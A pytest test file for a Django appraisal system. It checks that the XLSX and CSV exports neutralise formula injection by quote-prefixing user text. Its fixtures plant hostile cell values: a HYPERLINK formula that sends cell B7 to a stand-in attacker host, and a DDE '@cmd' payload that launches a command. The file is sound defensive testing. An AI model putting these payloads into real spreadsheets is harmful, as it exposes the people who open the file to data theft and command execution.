"""Every exported spreadsheet writes user text as text, never a formula (kernel/sheets.py).

A unit and a criterion whose names start with = + - @ go through the real exports: the
council's summary.xlsx download (block and analysis sheets), `export_year` and the audit
CSV. Their cells must come back as the same text, typed as text, and numbers as numbers.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from appraisal.services.compute import results_compute
from kernel.audit import audit_record
from kernel.sheets import csv_safe, looks_like_formula
from tests.appraisal.personas import appraise_everything, build_world
from tests.personas import person

pytestmark = pytest.mark.django_db

UNIT_NAME = '=HYPERLINK("http://ke-gian.vn/?"&B7,"Sở Y tế")'
AREA_NAME = "+SUM(1,2)"
LEAF_NAME = "@cmd|' /C calc'!A0"
NOTE = "-2+3 điểm"


@pytest.fixture
def world(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    world = build_world()
    y_te = world.participations["A18"]
    y_te.name = UNIT_NAME
    y_te.save(update_fields=["name"])
    world.criteria["1"].name = AREA_NAME
    world.criteria["1"].save(update_fields=["name"])
    world.criteria["1.1"].name = LEAF_NAME
    world.criteria["1.1"].save(update_fields=["name"])
    score = world.score("A18", "1.1")
    score.self_note = NOTE
    score.save(update_fields=["self_note"])
    appraise_everything(world)
    results_compute(year=world.year)
    return world


def cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def test_the_helper_touches_text_only():
    assert [looks_like_formula(v) for v in ("=A1", "+1", "-x", "@a", "\t=1", "\r=1")] == [True] * 6
    assert not any(looks_like_formula(v) for v in ("Sở Y tế", "1.1", Decimal("-1"), -1, None))
    assert csv_safe("=1+1") == "'=1+1"
    assert csv_safe(-5) == "'-5"
    assert csv_safe(None) == "" and csv_safe("Sở Y tế") == "Sở Y tế"


def test_summary_xlsx_keeps_every_name_as_text_and_every_figure_a_number(client, world):
    client.force_login(person("hoidong"))

    response = client.get("/bao-cao/2023/summary.xlsx")

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert not [c.coordinate for c in cells(workbook) if c.data_type == "f"]
    texts = {c.value: c for c in cells(workbook) if isinstance(c.value, str)}
    block, analysis = workbook["Khối A"], workbook["Phân tích A"]
    assert UNIT_NAME in [c.value for c in block["C"]]
    assert UNIT_NAME in [c.value for c in analysis["B"]]
    assert AREA_NAME in [c.value for c in analysis["B"]]
    assert LEAF_NAME in [c.value for c in analysis["B"]]
    for text in (UNIT_NAME, AREA_NAME, LEAF_NAME):
        assert texts[text].data_type == "s" and texts[text].quotePrefix
    numbers = [c.value for c in block["F"][5:] if c.value is not None]
    assert numbers and all(isinstance(v, int | float) for v in numbers)
    assert not texts["Sở Giao thông vận tải"].quotePrefix


def test_export_year_writes_names_and_notes_as_text_that_reads_back_the_same(world, tmp_path):
    out = tmp_path / "nam-2023.xlsx"

    call_command("export_year", "--year", "2023", "--out", str(out), stdout=io.StringIO())

    workbook = load_workbook(out)
    assert not [c.coordinate for c in cells(workbook) if c.data_type == "f"]
    texts = {c.value: c for c in cells(workbook) if isinstance(c.value, str)}
    for text in (UNIT_NAME, AREA_NAME, LEAF_NAME, NOTE):
        assert texts[text].data_type == "s" and texts[text].quotePrefix
    maxima = [c.value for c in workbook["criteria"]["D"][1:]]
    assert all(isinstance(v, int | float) for v in maxima)


def test_the_audit_csv_quotes_formula_like_text(client, world):
    audit_record(actor=None, action="Sửa tên", obj=world.year, year=2023, note=UNIT_NAME)
    client.force_login(person("noivu"))

    text = client.get("/nhat-ky/tai-ve.csv").content.decode("utf-8-sig")

    notes = [row[-1] for row in csv.reader(io.StringIO(text), delimiter=";")]
    assert "'" + UNIT_NAME in notes and UNIT_NAME not in notes
